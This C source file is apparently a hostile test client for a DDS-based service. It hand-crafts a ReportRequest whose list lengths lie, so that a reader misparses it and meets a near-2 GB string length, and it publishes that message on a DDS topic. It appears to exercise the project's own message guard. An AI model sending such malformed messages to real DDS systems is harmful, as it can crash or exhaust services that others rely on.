/* Sends a report in which the length of a list of doubles lies, so that who believes it reads the
 * next attempt at the wrong place, and there a string of 2 GB (Cyclone DDS 0.10.2 does; see
 * proto/dds/message_guard.hpp).
 *
 *   hostile_client DOMAIN */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "conversation.h"
#include "hostile.h"

/* The places are those of the whole message, whose size stands before the body. */
static void put(kinship_wire_ReportRequest* request, size_t place, uint32_t number) {
  memcpy(request->body + place - 4, &number, sizeof number);
}

static void lie(kinship_wire_ReportRequest* request) {
  memset(request, 0, sizeof *request);
  make_uuid(request->body);
  put(request, 20, 1);   /* sequence number */
  put(request, 28, 300); /* attempts: bytes, count */
  put(request, 32, 2);
  put(request, 36, 100);         /* the first one's bytes: up to 140 */
  put(request, 88, 1);           /* machine: "" */
  put(request, 96, 2);           /* task */
  put(request, 100, 't');        /* little endian */
  put(request, 104, 8);          /* T_task_base: 8 doubles, 64 bytes; there are 32 */
  put(request, 140, 188);        /* the second one's bytes, as they are */
  put(request, 172, 0x7fffffff); /* and where a reader finds them that took the 64 */
  put(request, 192, 100);        /* machine */
  put(request, 224, 0x7ffffff0); /* the same at the wrong place */
  put(request, 296, 2);          /* task */
  put(request, 300, 't');
  put(request, 308, 4); /* record: bytes of an empty list */
  put(request, 324, 4); /* scene */
}

int main(int argc, char** argv) {
  if (argc != 2)
    return 2;
  const dds_entity_t participant = join((uint32_t)strtoul(argv[1], NULL, 10));
  dds_qos_t* qos = make_qos(1);
  kinship_wire_ReportRequest request;
  lie(&request);
  const dds_entity_t topic = checked(dds_create_topic(participant, &kinship_wire_ReportRequest_desc,
                                                      "kinship/report/request", NULL, NULL),
                                     "topic");
  const dds_entity_t writer = checked(dds_create_writer(participant, topic, qos, NULL), "writer");
  const dds_entity_t waitset = checked(dds_create_waitset(participant), "waitset");
  checked(dds_set_status_mask(writer, DDS_PUBLICATION_MATCHED_STATUS), "status");
  checked(dds_waitset_attach(waitset, writer, 0), "attach");
  expect(checked(dds_waitset_wait(waitset, NULL, 0, DDS_SECS(20)), "wait") > 0, "a server");
  checked(dds_write(writer, &request), "write");
  checked(dds_wait_for_acks(writer, DDS_SECS(10)), "acknowledgement");
  puts("sent");
  dds_delete_qos(qos);
  return 0;
}
